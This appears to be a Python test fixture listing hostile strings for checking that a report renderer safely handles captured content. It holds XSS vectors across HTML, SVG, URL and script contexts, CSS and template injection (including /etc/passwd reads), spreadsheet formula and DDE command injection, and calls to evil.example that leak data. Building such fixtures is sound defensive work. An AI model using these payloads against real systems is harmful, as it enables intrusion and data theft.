"""Hostile strings: whatever a capture could hold to make a report run, load, leak or lie.

`ALL` maps a name to a payload. Wherever one would run, it sets `window.pwned` or opens a dialog.
"""

from __future__ import annotations

import itertools

RUN = "window.pwned=1"
CALL = "alert(1)"

_HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</pre></code></details><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    f"<link rel=import href=\"data:text/html,<script>{RUN}</script>\">",
    "<form action=https://evil.example/><input name=a autofocus>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math href=javascript:{RUN}>x</math>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<listing>&ltscript&gt{RUN}&lt/script&gt</listing>",
    "<frameset><frame src=https://evil.example/>",
    "<portal src=https://evil.example/>",
    "<dialog open>Your session has expired</dialog>",
    "<h1>Everything is fine</h1>",
    "<input type=password name=p placeholder=Password>",
    "<button popovertarget=x>x</button><div id=x popover>y</div>",
    "<slot name=x></slot>",
    "<div id=said name=filters></div>",
    "<a name=getElementById></a><form id=document></form>",
    "<!doctype html><html><body>",
    "<!-- unclosed comment",
    "<![endif]-->",
    f"<?php {RUN} ?><?xml version='1.0'?>",
    "<\x00script>window.pwned=1</\x00script>",
    f"<\x0bscript>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    f"<a\thref='java\nscript:{RUN}'>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<img src=x:x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'",
    f"<img/src=`x`onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<style onload={RUN}></style>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>",
    f"<div contenteditable autofocus onfocus={RUN}>",
    f"<custom-element onclick={RUN} is=x-y>",
]  # fmt: skip

_QUOTES = ('"', "'", "`", "", "&quot;", "&#39;", '\\"', "\\'", '">', "'>", '"/>', "`>")
_HANDLERS = (
    "onmouseover",
    "onfocus",
    "onpointerenter",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
)
_ATTRIBUTE = [
    f"{quote} {handler}={RUN} autofocus tabindex=1 x={quote}"
    for quote, handler in itertools.product(_QUOTES, _HANDLERS)
]

_URL = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f" javascript:{RUN}", f"javascript://evil.example/%0a{RUN}", f"javascript:/*--></title></style></script>*/{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", f"view-source:javascript:{RUN}", "//evil.example/x", "\\\\evil.example\\share",
    "https://evil.example/?q=<script>alert(1)</script>", "https://evil.example/\" onclick=\"alert(1)",
    "https://user:pass@evil.example/", "file:///etc/passwd", "blob:https://evil.example/x", "https://еxample.com/",
    "http://evil.example/#\u202efdp.exe", f"feed:javascript:{RUN}", "intent://x#Intent;scheme=http;end",
]  # fmt: skip

_SVG = [
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", "<svg><use href=https://evil.example/#x></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"></svg>",
    f"</title></svg><script>{RUN}</script>", f"</desc><script>{RUN}</script>", f"</text></svg><img src=x onerror={RUN}>",
    "<svg><image href=https://evil.example/x.png></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><![CDATA[</title><script>{RUN}</script>]]></svg>",
]  # fmt: skip

_CSS = [
    "}body{background:url(https://evil.example/x)}", "</style><style>*{display:none}</style>", "expression(alert(1))",
    "@import 'https://evil.example/x.css';", "x;background:url(javascript:alert(1))", "\\3c script\\3e", "*/}*{color:red}/*",
    "var(--x);behavior:url(x.htc)", "input[value^=a]{background:url(https://evil.example/a)}", "-moz-binding:url(x)",
]  # fmt: skip

_TEMPLATE = [
    "{{ 7*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ config }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{ view.__class__.__mro__ }}", "{# comment #}", "{% raw %}", "{% endraw %}{{ 7*7 }}", "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]", "%(x)s %s %d %n", "{0.__class__}", "{self}", "{}", "{", "}", "$(id)", "`id`", "``` \n```", "`", "```\n`" , "{% include '/etc/passwd' %}",
]  # fmt: skip

_SCRIPT = [
    "</script><!--<script>", "\u2028alert(1)\u2029", "';alert(1)//", "\";alert(1)//", "\\';alert(1)//", "${alert(1)}", "`-alert(1)-`",
    "<!--<script>", "*/alert(1)/*", "\\", "\\u2028", "__proto__", "constructor", "toString", "hasOwnProperty",
]  # fmt: skip

_DISPLAY = [
    "\u202egnp.exe", "\u202atext\u202c", "\u2066x\u2069", "\u2067x\u2069", "\u200e\u200f", "a\u200bb", "\u00adsoft", "\u061cx",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x9b31m",
    "\x1bPq\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x07\x08\x08\x08", "\x00\x01\x02", "\r\rfake line", "line\r\nSet-Cookie: a=b", "\x7f\x80\x85",
    "Z\u0351\u036b\u0343a\u0363\u0311l\u0351g\u0367o\u0353" * 20, "\U000e0041\U000e0042", "\ufffe\uffff", "\u2800\u3164\uffa0",
    "\ufdfd" * 40, "مرحبا بالعالم", "‏\u05d0\u05d1\u05d2 123", "👩‍👩‍👧‍👦🏳️‍🌈", "\u0000", " " * 500, "A" * 20000, "<" * 5000, "&" * 5000, "`" * 3000,
]  # fmt: skip

_FORMULA = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")", "\"=1+1", ";=1+1", "=DDE(\"cmd\",\"/C calc\")", "％=1+1",
]  # fmt: skip

_GROUPS = {
    "html": _HTML, "attribute": _ATTRIBUTE, "url": _URL, "svg": _SVG, "css": _CSS, "template": _TEMPLATE, "script": _SCRIPT,
    "display": _DISPLAY, "formula": _FORMULA,
}  # fmt: skip

ALL = {f"{group}-{i}": text for group, texts in _GROUPS.items() for i, text in enumerate(texts)}
